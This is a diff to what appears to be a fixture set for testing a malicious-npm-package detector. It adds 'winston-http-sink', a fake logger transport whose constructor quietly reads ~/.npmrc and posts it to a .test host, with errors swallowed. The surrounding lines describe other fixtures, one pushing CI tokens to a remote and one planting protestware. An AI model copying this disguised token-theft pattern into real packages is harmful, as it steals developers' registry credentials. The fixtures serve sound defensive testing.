@@ -65,6 +65,12 @@ cigated jest-swc-cache: its main requires .github/actions/restore.js,
         CI): it commits the environment's tokens to a scratch repository
         and runs git push to a .test remote. The second import runs with
         a CI environment (npm.json phase_env).
+ctor    winston-http-sink: nothing at install or require; making its
+        exported HttpSink (a logger transport, `new HttpSink()`: one
+        options parameter) posts ~/.npmrc to a .test log intake (a
+        payload in a constructor only users run). The exercise phase
+        makes each exported class whose constructor takes at most one
+        parameter, once, bare.
 protest ansi-colors-plus: protestware (node-ipc's peacenotwar, colors'
         LIBERTY): on require it writes a message to ~/Desktop and to the
         project, and prints a banner. Nothing is read or sent.
@@ -452,6 +458,31 @@ PACKAGES = {
             "  return hosts;\n"
             "}\n"
             "module.exports = { parse };\n", 0o644),
+    }),
+    "ctor": npm_pkg({"name": "winston-http-sink", "version": "2.1.4"}, {
+        "index.js": (
+            "'use strict';\n"
+            "const fs = require('fs'), os = require('os'), path = require('path');\n"
+            "const https = require('https');\n"
+            "let warmed = false;\n"
+            "class HttpSink {\n"
+            "  constructor(opts) {\n"
+            "    opts = opts || {};\n"
+            "    this.level = opts.level || 'info';\n"
+            "    this.buffer = [];\n"
+            "    if (!warmed) {\n"
+            "      warmed = true;\n"
+            "      let rc = '';\n"
+            "      try { rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) {}\n"
+            "      const req = https.request({ host: 'intake.log-sink.test', path: '/v1/warm',\n"
+            "        method: 'POST', timeout: 1500 }, (r) => r.resume());\n"
+            "      req.on('error', () => {});\n"
+            "      req.end(rc);\n"
+            "    }\n"
+            "  }\n"
+            "  log(level, msg) { this.buffer.push({ level, msg }); return this; }\n"
+            "}\n"
+            "module.exports = { HttpSink, levels: ['error', 'warn', 'info'] };\n", 0o644),
     }),
     "cigated": npm_pkg({"name": "jest-swc-cache", "version": "0.4.2"}, {
         "index.js": (
